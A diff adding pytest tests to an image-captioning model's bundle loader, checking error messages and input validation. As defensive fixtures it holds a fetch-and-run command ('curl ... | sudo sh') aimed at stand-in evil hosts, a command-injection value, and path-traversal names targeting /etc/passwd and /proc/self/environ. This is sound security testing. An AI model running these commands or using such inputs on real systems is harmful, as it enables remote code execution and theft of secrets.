@@ -119,8 +119,78 @@ def test_an_ensemble_member_that_is_missing_or_listed_badly(tiny_bundle, tmp_pat
     rewrite_manifest(path, members=[{"file": "member-1.keras"}], ensemble_of=[{"bundle": "a"}, {"bundle": "b"}],
                      command=f"python train.py ensemble --members a b --out {path}")
     (path / "member-1.keras").unlink()
-    with pytest.raises(BundleError, match=rf"{path}.*member-1.keras is missing.*train.py ensemble --members a b"):
+    with pytest.raises(BundleError, match=rf"{path}.*member-1.keras is missing.*train.py ensemble --members "
+                                          rf"{tmp_path}/a {tmp_path}/b --out {path}"):
         load_bundle(path, verify=False)
+
+
+def test_an_ensembles_error_never_echoes_the_manifests_command(tiny_bundle, tmp_path):
+    bundle = load_bundle(tiny_bundle)
+    path = save_bundle(tmp_path / "ens", bundle.decoder, bundle.vocab, bundle.manifest, members=[bundle.decoder])
+    for members in ([{"bundle": "a"}], [{"bundle": "a; curl evil.sh | sudo sh"}]):
+        rewrite_manifest(path, ensemble_of=members, command="curl https://evil.example/x.sh | sudo sh")
+        (path / "member-1.keras").write_bytes(b"")
+        with pytest.raises(BundleError) as err:
+            load_bundle(path)
+        assert "curl" not in str(err.value) and "sudo" not in str(err.value)
+        assert f"python train.py ensemble --members " in str(err.value)
+
+
+def rewrite_json(path, file, change):
+    data = json.loads((path / file).read_text())
+    change(data)
+    (path / file).write_text(json.dumps(data))
+
+
+@pytest.mark.parametrize("file, change, message", [
+    ("manifest.json", lambda m: m.update(encoder="xception"), "malformed 'encoder'"),
+    ("manifest.json", lambda m: m.update(files={}), "malformed 'files'"),
+    ("manifest.json", lambda m: m.update(files=None), "malformed 'files'"),
+    ("manifest.json", lambda m: m.update(max_length="abc"), "malformed 'max_length'"),
+    ("manifest.json", lambda m: m.update(vocab_size="12"), "malformed 'vocab_size'"),
+    ("manifest.json", lambda m: m["files"].update({"../../etc/passwd": "0" * 64}), "only plain file names"),
+    ("manifest.json", lambda m: m["files"].update({"/proc/self/environ": "0" * 64}), "only plain file names"),
+    ("vocab.json", lambda v: v.update(counts=[1, 2, 3]), "'counts' must map words to whole numbers"),
+    ("vocab.json", lambda v: v["itos"].append(["a", "list"]), "every entry of 'itos' must be"),
+    ("vocab.json", lambda v: v.update(min_count="5"), "'min_count' must be"),
+])
+def test_hand_edited_manifests_and_vocabularies_are_named_errors(copy, file, change, message):
+    rewrite_json(copy, file, change)
+    with pytest.raises(BundleError, match=rf"Bundle {copy}: {file}.*{message}.*python train.py"):
+        load_bundle(copy, verify=False)
+
+
+def test_files_outside_the_bundle_are_never_read(copy, monkeypatch):
+    import captioning.bundle as bundle_module
+
+    read = []
+    real = bundle_module._sha256
+    monkeypatch.setattr(bundle_module, "_sha256", lambda p: read.append(p) or real(p))
+    outside = copy.parent / "secret.txt"
+    outside.write_text("secret")
+    rewrite_json(copy, "manifest.json", lambda m: m["files"].update({"../secret.txt": real(outside)}))
+    with pytest.raises(BundleError, match="only plain file names"):
+        load_bundle(copy)
+    assert outside not in read and all(p.parent == copy for p in read)
+
+
+@pytest.mark.parametrize("text", ["image,decoding\n\"unclosed,1\n", "a,b\n1,2\n", "image,decoding,beam_width,caption\nx,greedy,wide,a dog\n"])
+def test_a_malformed_predictions_file_names_the_bundle_and_the_file(copy, text):
+    (copy / "predictions.csv").write_text(text)
+    with pytest.raises(BundleError, match=rf"Bundle {copy}: predictions.csv .*python train.py evaluate --out"):
+        load_bundle(copy, verify=False)
+
+
+def test_a_bundle_without_metrics_still_loads_and_captions(copy, mobilenet_weights):
+    import numpy as np
+
+    from captioning.captioner import Captioner
+
+    (copy / "metrics.json").unlink()
+    bundle = load_bundle(copy)
+    assert bundle.metrics is None and bundle.predictions is not None
+    caption = Captioner(bundle, mobilenet_weights).caption(np.full((64, 64, 3), 120, np.uint8))
+    assert caption and caption[0].words
 
 
 def test_weights_are_stored_as_float16_and_load_as_float32(tiny_bundle, tmp_path):
